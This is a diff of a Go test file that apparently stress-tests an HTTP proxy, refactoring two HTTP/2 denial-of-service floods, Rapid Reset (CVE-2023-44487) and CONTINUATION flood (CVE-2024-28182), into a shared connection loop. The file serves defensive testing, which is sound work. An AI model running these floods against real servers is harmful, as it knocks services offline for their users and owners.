@@ -365,16 +365,17 @@ func oversizedBodies(t *testing.T, addr string, n int, stop <-chan struct{}) str
 	return fmt.Sprintf("%d uploads, %s of body accepted by the proxy", n, mib(sent.Load()))
 }
 
-// rapidReset opens and immediately resets streams (CVE-2023-44487) on one
-// connection after another until stop, and reports how the proxy ended them.
-func rapidReset(t *testing.T, addr string, stop <-chan struct{}) string {
-	block := requestBlock()
-	var conns, streams int
+// h2Flood opens one h2c connection after another until stop and calls send on
+// each with n = 0, 1, 2, ...: send writes frames until it returns false (a write
+// failed, or it is done) or the proxy ends the connection. It returns the
+// connections made and how the proxy ended them.
+func h2Flood(addr string, stop <-chan struct{}, send func(fr *http2.Framer, n int) bool) (int, map[string]int) {
+	conns := 0
 	ends := map[string]int{}
 	for {
 		select {
 		case <-stop:
-			return fmt.Sprintf("%d connections, %d streams opened and reset; connections ended by %v", conns, streams, ends)
+			return conns, ends
 		default:
 		}
 		c, fr, err := h2Conn(addr)
@@ -388,12 +389,7 @@ func rapidReset(t *testing.T, addr string, stop <-chan struct{}) string {
 		go func() { end <- h2Outcome(c, fr, 0) }()
 		var why string
 	loop:
-		for id := uint32(1); id < 1<<31-1 && id < 200001; id += 2 {
-			if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
-				fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
-				break
-			}
-			streams++
+		for n := 0; send(fr, n); n++ {
 			select {
 			case why = <-end:
 				break loop
@@ -410,49 +406,39 @@ func rapidReset(t *testing.T, addr string, stop <-chan struct{}) string {
 	}
 }
 
+// rapidReset opens and immediately resets streams (CVE-2023-44487) on one
+// connection after another until stop, and reports how the proxy ended them.
+func rapidReset(t *testing.T, addr string, stop <-chan struct{}) string {
+	block := requestBlock()
+	streams := 0
+	conns, ends := h2Flood(addr, stop, func(fr *http2.Framer, n int) bool {
+		id := uint32(1 + 2*n)
+		if n == 100000 ||
+			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
+			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			return false
+		}
+		streams++
+		return true
+	})
+	return fmt.Sprintf("%d connections, %d streams opened and reset; connections ended by %v", conns, streams, ends)
+}
+
 // continuationFlood sends a HEADERS frame without END_HEADERS followed by
 // CONTINUATION frames that never end (CVE-2024-28182) on one connection after
 // another until stop.
 func continuationFlood(t *testing.T, addr string, stop <-chan struct{}) string {
 	junk := bytes.Repeat([]byte{0x40, 0x01, 'x', 0x01, 'y'}, 3000) // literal x: y fields
-	var conns, frames int
-	ends := map[string]int{}
-	for {
-		select {
-		case <-stop:
-			return fmt.Sprintf("%d connections, %d CONTINUATION frames; connections ended by %v", conns, frames, ends)
-		default:
+	frames := 0
+	conns, ends := h2Flood(addr, stop, func(fr *http2.Framer, n int) bool {
+		if n == 0 && fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: requestBlock(), EndStream: true, EndHeaders: false}) != nil {
+			return false
 		}
-		c, fr, err := h2Conn(addr)
-		if err != nil {
-			ends["dial error"]++
-			time.Sleep(10 * time.Millisecond)
-			continue
+		if n == 100000 || fr.WriteContinuation(1, false, junk) != nil {
+			return false
 		}
-		conns++
-		end := make(chan string, 1)
-		go func() { end <- h2Outcome(c, fr, 0) }()
-		var why string
-		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: requestBlock(), EndStream: true, EndHeaders: false}) == nil {
-		loop:
-			for range 100000 {
-				if fr.WriteContinuation(1, false, junk) != nil {
-					break
-				}
-				frames++
-				select {
-				case why = <-end:
-					break loop
-				case <-stop:
-					break loop
-				default:
-				}
-			}
-		}
-		c.Close()
-		if why == "" {
-			why = <-end
-		}
-		ends[why]++
-	}
+		frames++
+		return true
+	})
+	return fmt.Sprintf("%d connections, %d CONTINUATION frames; connections ended by %v", conns, frames, ends)
 }
